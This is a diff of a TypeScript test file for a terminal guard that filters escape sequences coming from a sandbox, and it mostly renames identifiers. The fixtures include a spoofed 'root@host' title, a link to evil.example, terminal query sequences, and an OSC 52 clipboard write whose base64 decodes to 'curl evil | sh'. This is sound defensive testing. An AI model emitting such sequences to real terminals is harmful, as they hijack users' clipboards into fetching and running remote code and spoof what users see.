@@ -1,6 +1,6 @@
 import { Terminal } from "@xterm/xterm";
 import { describe, expect, it } from "vitest";
-import { guard, guarded, pasteable } from "./guard";
+import { guard, guardedOptions, pasteable } from "./guard";
 
 const write = (terminal: Terminal, text: string) => new Promise<void>((done) => terminal.write(text, done));
 
@@ -8,12 +8,12 @@ interface Links {
   extended?: { urlId: number };
 }
 
-async function shown(text: string, guards: boolean, answers = true) {
-  const terminal = new Terminal({ ...guarded, cols: 40, rows: 5 });
-  if (guards) guard(terminal, answers);
-  const seen = { titles: [] as string[], answers: [] as string[] };
+async function render(text: string, guards: boolean, replies = true) {
+  const terminal = new Terminal({ ...guardedOptions, cols: 40, rows: 5 });
+  if (guards) guard(terminal, replies);
+  const seen = { titles: [] as string[], replies: [] as string[] };
   terminal.onTitleChange((title) => seen.titles.push(title));
-  terminal.onData((data) => seen.answers.push(data));
+  terminal.onData((data) => seen.replies.push(data));
   await write(terminal, text);
   const line = terminal.buffer.active.getLine(0);
   const cell = line?.getCell(0) as unknown as Links | undefined;
@@ -25,31 +25,31 @@ async function shown(text: string, guards: boolean, answers = true) {
 const title = "\x1b]0;root@host\x07\x1b]2;other\x1b\\";
 const link = "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\";
 const clipboard = "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07";
-const asks = "\x1b[c\x1b[6n\x1b[>c\x1bP$qm\x1b\\\x1b]10;?\x07\x1b]4;1;?\x07";
+const queries = "\x1b[c\x1b[6n\x1b[>c\x1bP$qm\x1b\\\x1b]10;?\x07\x1b]4;1;?\x07";
 
 describe("guard", () => {
   it("is needed: without it a sandbox sets the title, makes links and gets replies", async () => {
-    expect((await shown(title, false)).titles).toEqual(["root@host", "other"]);
-    expect((await shown(link, false)).link).toBe(true);
-    expect((await shown(asks, false)).answers.length).toBeGreaterThan(2);
-    expect((await shown("\x1b[?1000h", false)).mouse).toBe("vt200");
+    expect((await render(title, false)).titles).toEqual(["root@host", "other"]);
+    expect((await render(link, false)).link).toBe(true);
+    expect((await render(queries, false)).replies.length).toBeGreaterThan(2);
+    expect((await render("\x1b[?1000h", false)).mouse).toBe("vt200");
   });
 
   it("lets only text through", async () => {
-    expect((await shown(title + "x", true)).titles).toEqual([]);
-    expect(await shown(link, true)).toMatchObject({ link: false, line: "click" });
-    expect(await shown(clipboard + "x", true)).toMatchObject({ line: "x", answers: [] });
+    expect((await render(title + "x", true)).titles).toEqual([]);
+    expect(await render(link, true)).toMatchObject({ link: false, line: "click" });
+    expect(await render(clipboard + "x", true)).toMatchObject({ line: "x", replies: [] });
   });
 
   it("replies to programs while a person types, and never with text that the sandbox chose", async () => {
-    const answers = (await shown(asks, true)).answers.join("");
-    expect(answers).toContain("R");
-    expect(answers).not.toContain("$r");
-    expect(answers).not.toContain("rgb:");
+    const replies = (await render(queries, true)).replies.join("");
+    expect(replies).toContain("R");
+    expect(replies).not.toContain("$r");
+    expect(replies).not.toContain("rgb:");
   });
 
   it("sends no replies and no mouse reports to a read-only viewer", async () => {
-    expect(await shown(asks + "\x1b[?1003h\x1b[?1000;1006h", true, false)).toMatchObject({ answers: [], mouse: "none" });
+    expect(await render(queries + "\x1b[?1003h\x1b[?1000;1006h", true, false)).toMatchObject({ replies: [], mouse: "none" });
   });
 });
 
